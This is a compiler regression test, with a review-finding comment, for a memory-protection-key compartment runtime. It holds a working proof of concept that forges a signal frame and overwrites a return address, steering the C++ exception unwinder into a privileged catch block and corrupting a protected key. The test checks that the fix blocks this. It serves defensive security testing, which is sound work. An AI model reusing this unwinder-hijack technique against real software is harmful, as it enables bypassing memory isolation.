// Review 53, finding 2 (issue 11's landing pads), attacker model A with a
// second thread (key-0 loads and stores only). A throw with the vault's
// rights unwinds, with its rights, through a call out of the vault and on
// into the program's frames on main's key-0 stack. A return address there
// that leads to a signal-return stub makes the unwinder take the next
// frame as a signal frame: every register of the frame after it (rip,
// rsp, rbx, rbp, ...) is read from the ucontext above the return address,
// key-0 words. glibc's __restore_rt has CFI saying so (CIE augmentation
// "zRS"); code with no FDE that begins with the stub's bytes (mov $15,
// %rax; syscall) gets the same from libgcc_s's fallback
// (MD_FALLBACK_FRAME_STATE_FOR), which recognises it by its code.
// How: the vault's vault_run calls vault_step in a try; vault_step calls
// the program's callback, which waits (as for I/O) and then makes the
// vault throw. Meanwhile the program's second thread finds the call out's
// frame on main's stack (the vault's saved stack pointer, as in
// attacks-rev53-unwind-saved-sp.cpp), replaces the callback's return
// address below it with the stub and writes a ucontext above it: rip just
// inside vault_run's call of vault_step (the return address less one: a
// signal frame's pc is not adjusted), rsp vault_run's real stack pointer
// (from the saved one, so the landing pad's gate passes), rbx and rbp the
// attacker's. The unwinder lands in vault_run's catch with those
// registers: at -O0 rbp points into the program's request (vault_run's
// locals), at -O2 rbx is the status pointer; either way the catch stores
// the error code (the program's word, "POWNED!") into vault_key, with the
// vault's rights. Stub: glibc's __restore_rt (found by its bytes in libc's
// code); with the argument "stub", a copy of its bytes in this program's
// code, with no FDE (the fallback's path). The control does the same
// without the forgery. The same source at -O2:
// attacks-rev53-forged-sigframe-O2.test.
// Seen in the guest: ATTACK SUCCEEDED, 3 of 3 at -O0 and at -O2, with
// either stub (LLVM 19; at -O2 the program then dies of SIGSEGV, the other
// callee-saved registers being the ucontext's unwritten words); the
// controls print "vault key intact".
// Fixed: with a compartment's rights the unwinder gets no signal frame:
// the runtime's FDE lookup (unwind-find.c) stops the program with one line
// for an FDE whose CIE augmentation has 'S', and for a pc with no FDE
// where libgcc_s's fallback would find the stub's bytes (the runtime's own
// walks excepted: they run no landing pad). Seen since: that line, 3 of 3
// at -O0 and -O2 with either stub; the controls unchanged.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O0 -pthread %s -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: not %run %t 2>&1 | FileCheck %s
// RUN: not %run %t stub 2>&1 | FileCheck %s --check-prefix=STUB
// CONTROL: stub found
// CONTROL: saved stack pointer found
// CONTROL: request failed: 1, status 0x2144454e574f50
// CONTROL: vault key intact
// CHECK: stub found
// CHECK: saved stack pointer found
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: the unwinder cannot unwind the frame at pc {{.*}}libc.so.6{{.*}} with a compartment's rights: a signal frame
// CHECK-NOT: ATTACK SUCCEEDED
// STUB: stub found
// STUB: saved stack pointer found
// STUB-NOT: ATTACK SUCCEEDED
// STUB: the unwinder cannot unwind the frame at pc {{.*}} with a compartment's rights: {{.*}}sigreturn
// STUB-NOT: ATTACK SUCCEEDED
#include "Inputs/unwind-vault.h"
#include <link.h>
#include <stddef.h>
#include <ucontext.h>

/* The stub's bytes in this program's code, covered by no FDE (no CFI
 * directives): a stand-in for any such bytes in code without CFI. */
__asm__(".text\n"
        "nop\n"
        "own_stub:\n"
        "movq $15, %rax\n"
        "syscall\n"
        "ud2\n");
extern "C" const unsigned char own_stub[];

static const unsigned char STUB[] = {0x48, 0xc7, 0xc0, 0x0f, 0x00,
                                     0x00, 0x00, 0x0f, 0x05};

/* glibc's __restore_rt: the stub's bytes in libc's code (not exported). */
static int find_restorer(struct dl_phdr_info *info, size_t, void *arg) {
  const char *name = strrchr(info->dlpi_name, '/');
  if (!name || strcmp(name, "/libc.so.6"))
    return 0;
  for (int i = 0; i < info->dlpi_phnum; i++) {
    const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
    if (ph->p_type != PT_LOAD || !(ph->p_flags & PF_X))
      continue;
    const unsigned char *p = (const unsigned char *)(info->dlpi_addr +
                                                     ph->p_vaddr);
    const unsigned char *end = p + ph->p_filesz - sizeof STUB;
    for (; p < end; p++)
      if (!memcmp(p, STUB, sizeof STUB)) {
        *(uintptr_t *)arg = (uintptr_t)p;
        return 1;
      }
  }
  return 0;
}

static int armed, own;

static void *attacker(void *) {
  uintptr_t key, step, run;
  __asm__("leaq vault_key(%%rip), %0" : "=r"(key));
  __asm__("leaq vault_step(%%rip), %0" : "=r"(step));
  __asm__("leaq \"__bulkhead_body.vault_run\"(%%rip), %0" : "=r"(run));
  long frame = vault_step_frame();
  /* vault_run's return point from vault_step: after its call. */
  uintptr_t back = 0;
  for (const unsigned char *q = (const unsigned char *)run;
       q < (const unsigned char *)run + 512 && !back; q++) {
    int32_t d;
    memcpy(&d, q + 1, 4);
    if (q[0] == 0xe8 && (uintptr_t)q + 5 + d == step)
      back = (uintptr_t)q + 5;
  }
  uintptr_t stub = (uintptr_t)own_stub;
  if (!own && !dl_iterate_phdr(find_restorer, &stub))
    stub = 0;
  printf("vault_step's frame: %s, return point: %s\n",
         frame < 0 ? "not found" : "found", back ? "found" : "not found");
  printf("stub %s\n", stub ? "found" : "not found");
  arm_request();
  volatile uintptr_t *found = find_saved_sp();
  printf("saved stack pointer %s\n", found ? "found" : "not found");
  if (found && frame >= 0 && back && stub && armed) {
    /* Below the saved stack pointer: the old slot, the top, then the
     * callback's return address. The ucontext is above it (where a signal
     * handler's return address to the stub would be). */
    volatile uintptr_t *ra = found - 4;
    volatile char *uc = (volatile char *)(ra + 1);
    /* vault_step's return address is 64 bytes above the saved stack
     * pointer (the call out's six registers, slot and cookie); vault_run's
     * stack pointer is above it and vault_step's frame. */
    uintptr_t sp = *found + 64 + 8 + frame + 8;
#define REG(r) (*(volatile uintptr_t *)(uc + offsetof(ucontext_t, uc_mcontext.gregs[r])))
    REG(REG_RIP) = back - 1;
    REG(REG_RSP) = sp;
    REG(REG_RBX) = key;
    REG(REG_RBP) = (uintptr_t)request.words;
    *ra = stub;
  }
  if (write(ack[1], "k", 1) != 1)
    puts("no acknowledgement");
  return NULL;
}

/* Room on main's stack for the ucontext above the call out's frame. */
__attribute__((noinline)) static int run_request(long *status) {
  volatile char pad[1024];
  pad[0] = 1;
  int r = vault_run(request.words, status);
  return r + pad[0] - 1;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  armed = argc < 2 || strcmp(argv[1], "control");
  own = argc > 1 && !strcmp(argv[1], "stub");
  if (pipe(ack)) {
    puts("no pipe");
    return 1;
  }
  pthread_t t;
  pthread_create(&t, NULL, attacker, NULL);
  while (!ready)
    ;
  uintptr_t here;
  top = &here;
  long status = 0;
  int failed = run_request(&status);
  pthread_join(t, NULL);
  report(failed, status);
  return 0;
}
